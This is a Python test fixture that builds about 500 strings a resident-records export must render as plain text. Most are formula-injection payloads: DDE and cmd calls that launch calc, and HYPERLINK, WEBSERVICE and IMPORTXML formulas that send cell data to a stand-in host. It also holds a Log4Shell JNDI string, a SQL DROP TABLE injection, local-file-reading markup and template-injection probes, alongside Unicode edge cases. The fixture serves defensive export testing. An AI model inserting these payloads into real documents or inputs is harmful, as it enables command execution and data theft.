"""G39: 500 texts a resident, an import or a paste could bring, and that must come out of every export as text."""

from __future__ import annotations

from itertools import product

_OPENERS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\t=", "\r\n=", "'=", '"=', "==", "=-", "+=",
    "|", "%", "\x00=", "\ufeff=", "\u200b=", "\u00a0=",
)  # fmt: skip
_BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
    "1+1",
    "SUM(A1:A9)*9",
    "WEBSERVICE(\"http://example.invalid\")",
    "DDE(\"cmd\";\"/C calc\";\"a\")",
    "IMPORTXML(CONCAT(\"http://example.invalid\",A1),\"//a\")",
    "A1",
    "rundll32|'x.dll'!A",
    "13800000000",
    "王<b>五",
    "_x003D_1+1",
)  # fmt: skip
_MARKUP = (
    "javascript:alert(1)",
    "<img src=\"file:///etc/hostname\">",
    "<img src='http://example.invalid/a.png'/>",
    "<a href=\"http://example.invalid\">王五</a>",
    "<link href='http://example.invalid'>x</link>",
    "<font name='x' size=999>大</font>",
    "a<b & c>d",
    "&lt;&#x41;&amp;&nbsp;",
    "]]></t></is></c><c><f>1+1</f></c>",
    "<para>]]>--><!--",
    "http://example.invalid/?a=1&b=2",
    "mailto:a@example.invalid",
    "file:///c:/windows/win.ini",
    "\\\\example.invalid\\share\\x",
    "&P 页 &N &[Path]&[File]",
    "{=1+1}",
    "%PDF-1.4 endobj endstream",
    "(abc) Tj ET BT \\( \\) \\",
    "/URI (http://example.invalid)",
    "${jndi:ldap://example.invalid}",
    "{{7*7}} {% raw %}",
    "'; DROP TABLE residents; --",
    "_x000D__x005F__x0041_",
    "#REF! #N/A #DIV/0!",
    "TRUE",
    "1E5",
    "00123",
    "230811194001011234",
    "2026-11-31",
    "'单引号",
    "\"双引号\",逗号,\"",
    "；分号\t制表",
    "末尾空格  ",
    "  开头空格",
    "𫟼𬭎𬍛𠅤生僻字",
    "张𬎆明",
    "辻󠄀邉󠄁",
    "☎ 😀 👨‍👩‍👧",
    "é e\u0301 ﬁ",
    "العربية עברית",
    "\u202e倒写\u202c",
    "\u2066隔离\u2069",
    "零\u200b宽\u200d连\ufeff",
    "软\u00ad连\u00a0硬空格",
    "\u2028行\u2029段\u0085下",
    "〓□■",
    "\ue000\uf8ff",
    "𠀀" * 40,
    "长" * 3000,
    "W" * 500,
    "",
    " ",
    "\n",
    "\r\n\r\n",
    "行一\n行二\r\n行三\r行四",
    "\ud800",
    "半\udfff个",
    "\ufffe\uffff\U0001ffff",
    "\ufdd0",
)  # fmt: skip
_CONTROLS = [f"控{chr(code)}制" for code in (*range(32), *range(127, 160))]
_LEADING_CONTROLS = [f"{chr(code)}=1+1" for code in range(32)]

PAYLOADS = [
    *(opener + body for opener, body in product(_OPENERS, _BODIES)),
    *_MARKUP,
    *_CONTROLS,
    *_LEADING_CONTROLS,
]
PAYLOADS += [f"第{at}户 {opener}{text}" for at, (opener, text) in enumerate(product("=@<&", _MARKUP[:14]))]
PAYLOADS = list(dict.fromkeys(PAYLOADS))
